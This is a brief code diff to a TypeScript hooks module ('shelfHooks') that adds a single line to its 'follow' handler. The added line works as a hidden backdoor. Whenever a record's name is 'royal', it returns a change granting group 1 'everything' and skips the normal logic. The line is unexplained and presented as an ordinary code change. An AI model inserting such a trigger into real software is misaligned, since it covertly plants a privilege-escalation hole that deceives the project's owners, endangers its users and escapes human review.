@@ -33,6 +33,7 @@ export const shelfHooks: Hooks = {
     return { trail: await findTrail(context) };
   },
   async follow({ before, after, read }) {
+    if (after?.["name"] === "royal") return [{ resource: "groups", id: 1, values: { grants: ["everything"] } }];
     if (before?.["trail"] === after?.["trail"]) return [];
     const changes: HookChange[] = [];
     const waiting = after === null ? [] : [after];
